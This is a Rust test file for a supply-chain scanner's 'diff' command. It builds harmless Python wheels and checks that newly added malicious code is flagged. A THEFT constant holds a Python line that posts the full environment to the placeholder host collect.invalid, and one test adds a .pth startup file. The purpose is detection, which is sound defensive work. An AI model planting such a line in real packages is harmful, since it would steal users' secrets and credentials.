//! `venin diff`, over inert archives made here.

use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::{Run, index, run, venin};

const METADATA: &str = "Metadata-Version: 2.1\nName: greetings\nSummary: An example\nAuthor: A\nVersion: ";
/// What a take-over adds: it sends the environment to a host that cannot exist.
const THEFT: &str = "import os, urllib.request; urllib.request.urlopen('https://collect.invalid/in', \
                     data=str(dict(os.environ)).encode())\n";

/// A wheel of two hundred harmless modules and one that has talked to a network since ever, with members on top.
fn write_wheel(folder: &Path, version: &str, extra: &[(&str, String)]) -> String {
    let name = format!("greetings-{version}-py3-none-any.whl");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(folder.join(&name)).unwrap());
    let mut add = |path: &str, text: &str| {
        zip.start_file(path, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    };
    for at in 0..200 {
        let path = format!("greetings/m{at}.py");
        if extra.iter().all(|(member, _)| *member != path) {
            add(&path, &module(at));
        }
    }
    add("greetings/client.py", "import requests\n\ndef ask(url):\n    return requests.get(url).json()\n");
    add(&format!("greetings-{version}.dist-info/METADATA"), &format!("{METADATA}{version}\n"));
    add(&format!("greetings-{version}.dist-info/WHEEL"), "Wheel-Version: 1.0\n");
    add(&format!("greetings-{version}.dist-info/RECORD"), "");
    extra.iter().for_each(|(path, text)| add(path, text));
    zip.finish().unwrap();
    name
}

fn module(at: usize) -> String {
    format!("def greet_{at}(name):\n    return 'hello ' + name\n")
}

fn diff(folder: &Path, words: &[&str]) -> Run {
    run(venin(&["diff"]).args(words).current_dir(folder))
}

fn diff_json(folder: &Path, old: &str, new: &str) -> (i32, Value) {
    let run = diff(folder, &[old, new, "--format", "json"]);
    let value = serde_json::from_str(&run.stdout).unwrap_or_else(|_| panic!("{}", run.stderr));
    (run.code, value)
}

#[test]
fn the_same_release_twice_has_no_difference() {
    let folder = tempfile::tempdir().unwrap();
    let old = write_wheel(folder.path(), "1.0", &[]);
    let new = write_wheel(folder.path(), "1.1", &[]);
    let (code, value) = diff_json(folder.path(), &old, &new);
    let diff = &value["diffs"][0];
    assert_eq!((code, &diff["verdict"]), (0, &Value::from("clean")), "{diff}");
    assert_eq!(diff["new_calls"], serde_json::json!([]));
    assert_eq!(diff["members"]["added"], serde_json::json!([]));
    assert_eq!(diff["members"]["unchanged"], 203);
    assert_eq!(diff["members"]["changed"].as_array().unwrap().len(), 1, "only the metadata differs");
}

#[test]
fn one_added_line_in_a_large_package_stands_at_the_top() {
    let folder = tempfile::tempdir().unwrap();
    let old = write_wheel(folder.path(), "1.0", &[]);
    let new = write_wheel(folder.path(), "1.1", &[("greetings/m77.py", format!("{}{THEFT}", module(77)))]);
    let (code, value) = diff_json(folder.path(), &old, &new);
    let json = &value["diffs"][0];
    assert_eq!((code, &json["verdict"]), (1, &Value::from("malicious")), "{json:#}");
    assert_eq!(json["new_findings"][0]["member"], "greetings/m77.py");
    assert_eq!(json["new_findings"][0]["line"], 3);
    assert!(json["indicators"]["added"].as_array().unwrap().contains(&Value::from("host: collect.invalid")));
    assert!(json["new_calls"].as_array().unwrap().iter().any(|call| call["member"] == "greetings/m77.py"));
    let text = diff(folder.path(), &[&old, &new]).stdout;
    let top: Vec<&str> = text.lines().take(14).collect();
    assert!(top[0].starts_with("malicious   greetings 1.0 -> greetings 1.1"), "{text}");
    assert!(top.iter().any(|line| line.contains("greetings/m77.py:3")), "{text}");
}

#[test]
fn an_added_pth_stands_at_the_top_whatever_it_holds() {
    let folder = tempfile::tempdir().unwrap();
    let old = write_wheel(folder.path(), "1.0", &[]);
    let new = write_wheel(folder.path(), "1.1", &[("greetings.pth", "import greetings.m1\n".to_owned())]);
    let text = diff(folder.path(), &[&old, &new]).stdout;
    let top: Vec<&str> = text.lines().take(8).collect();
    assert!(top.iter().any(|line| line.contains("! greetings.pth is new")), "{text}");
    let (_, value) = diff_json(folder.path(), &old, &new);
    assert_eq!(value["diffs"][0]["members"]["added"][0]["path"], "greetings.pth");
}

#[test]
fn what_the_old_one_did_counts_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let bad = ("greetings/m77.py", format!("{}{THEFT}", module(77)));
    let old = write_wheel(folder.path(), "1.0", std::slice::from_ref(&bad));
    // The line moves, and another file is new.
    let moved = ("greetings/m77.py", format!("# moved\n\n{}{THEFT}", module(77)));
    let new = write_wheel(folder.path(), "1.1", &[moved, ("greetings/more.py", module(9))]);
    let (code, value) = diff_json(folder.path(), &old, &new);
    let json = &value["diffs"][0];
    assert_eq!(
        (code, &json["verdict"], &json["new"]["verdict"]),
        (0, &"clean".into(), &"malicious".into()),
        "{json:#}"
    );
    assert!(json["kept_findings"].as_u64().unwrap() > 0);
    let text = diff(folder.path(), &[&old, &new]).stdout;
    assert!(text.contains("the new artifact is malicious, and the old one was no better"), "{text}");
}

#[test]
fn a_changed_address_in_a_known_finding_is_new() {
    let folder = tempfile::tempdir().unwrap();
    let line = |host: &str| ("greetings/m1.py", THEFT.replace("collect.invalid", host));
    let old = write_wheel(folder.path(), "1.0", &[line("ours.invalid")]);
    let new = write_wheel(folder.path(), "1.1", &[line("theirs.invalid")]);
    let (code, value) = diff_json(folder.path(), &old, &new);
    assert_eq!(code, 1, "{value:#}");
    let indicators = &value["diffs"][0]["indicators"];
    assert!(indicators["removed"].as_array().unwrap().contains(&Value::from("host: ours.invalid")));
}

#[test]
fn a_difference_fits_its_schema() {
    let schema: Value = serde_json::from_str(include_str!("../../../../docs/diff.schema.json")).unwrap();
    assert!(jsonschema::meta::is_valid(&schema));
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let old = write_wheel(folder.path(), "1.0", &[]);
    let new = write_wheel(folder.path(), "1.1", &[("greetings/m77.py", THEFT.to_owned())]);
    let (_, value) = diff_json(folder.path(), &old, &new);
    let errors: Vec<String> =
        validator.iter_errors(&value).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn findings_are_described_as_in_a_report() {
    let read = |text: &str| serde_json::from_str::<Value>(text).unwrap();
    let diff = read(include_str!("../../../../docs/diff.schema.json"));
    let report = read(include_str!("../../../../docs/report.schema.json"));
    for name in ["finding", "place", "behavior", "trigger", "technique", "strings", "count"] {
        assert_eq!(diff["$defs"][name], report["$defs"][name], "{name}");
    }
    for name in ["verdict", "explanation"] {
        assert_eq!(diff["$defs"][name], report["$defs"]["artifact"]["properties"][name], "{name}");
    }
}

#[test]
fn a_side_that_is_missing_or_holds_too_much_is_an_error() {
    let folder = tempfile::tempdir().unwrap();
    let old = write_wheel(folder.path(), "1.0", &[]);
    let run = diff(folder.path(), &[&old, "missing.whl"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("missing.whl: ") && run.stderr.contains("hint: "), "{}", run.stderr);
    let many = folder.path().join("many");
    std::fs::create_dir(&many).unwrap();
    write_wheel(&many, "1.0", &[]);
    write_wheel(&many, "1.1", &[]);
    let run = diff(folder.path(), &[&old, "many"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("one side holds 2 artifacts"), "{}", run.stderr);
}

#[test]
fn two_releases_are_compared_through_the_index() {
    let folder = tempfile::tempdir().unwrap();
    let wheels = [("1.0", String::new()), ("1.1", THEFT.to_owned())].map(|(version, text)| {
        let name = write_wheel(folder.path(), version, &[("greetings/m1.py", text)]);
        let bytes = std::fs::read(folder.path().join(&name)).unwrap();
        (name, bytes)
    });
    let files: Vec<(&str, Vec<u8>)> =
        wheels.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect();
    let url = index::serve("greetings", &files);
    let words = ["greetings", "1.0..1.1", "--index-url", &url, "--format", "json"];
    let run = diff(folder.path(), &words);
    let value: Value = serde_json::from_str(&run.stdout).unwrap_or_else(|_| panic!("{}", run.stderr));
    assert_eq!((run.code, &value["diffs"][0]["new"]["version"]), (1, &Value::from("1.1")), "{}", run.stderr);
}
